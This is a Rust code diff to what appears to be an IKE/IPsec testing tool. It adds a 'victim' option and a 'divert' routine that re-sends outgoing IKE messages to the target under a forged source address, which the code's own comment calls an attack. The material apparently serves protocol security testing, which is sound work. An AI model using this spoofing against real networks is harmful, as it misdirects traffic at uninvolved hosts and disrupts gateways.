@@ -46,6 +46,8 @@ pub struct Orders {
     pub secret: Vec<u8>,
     /// Who it says it is.
     pub identity: String,
+    /// The host whose address it gives what passes, in the attack that does so.
+    pub victim: Option<IpAddr>,
     /// How many times, each with an IKE SA of its own.
     pub count: u32,
     /// How long it waits between two times.
@@ -105,6 +107,10 @@ impl Tester {
     }
 
     pub(super) fn handle(&mut self, now: Instant, packet: IpPacket) {
+        if let Some(victim) = self.orders.victim {
+            self.divert(now, victim, &packet);
+            return self.out.push_back(packet);
+        }
         if let Some(octets) = ike(&packet) {
             let is_answer = packet.source() == self.orders.against;
             if let Ok(header) = Header::parse(octets)
@@ -130,6 +136,27 @@ impl Tester {
             self.passing.remember(octets);
         }
         self.out.push_back(packet);
+    }
+
+    /// Sends an IKE message that passes to the other end from the victim's address first.
+    fn divert(&mut self, now: Instant, victim: IpAddr, packet: &IpPacket) {
+        let due = self.left > 0 && self.next.is_some_and(|next| next <= now);
+        let Some(datagram) =
+            udp::read(packet).ok().filter(|_| due && packet.destination() == self.orders.against)
+        else {
+            return;
+        };
+        if datagram.payload.len() <= 4
+            || datagram.source.port() != IKE_PORT && datagram.payload[..4] != [0; 4]
+        {
+            return;
+        }
+        self.left -= 1;
+        self.next = Some(now + self.orders.every);
+        let header = IpHeader::new(victim, packet.destination(), 0);
+        let source = SocketAddr::new(victim, datagram.source.port());
+        let copy = udp::build(source, datagram.destination, Buffer::copy_of(datagram.payload), &header);
+        self.out.extend(copy);
     }
 
     pub(super) fn wake(&mut self, now: Instant) {
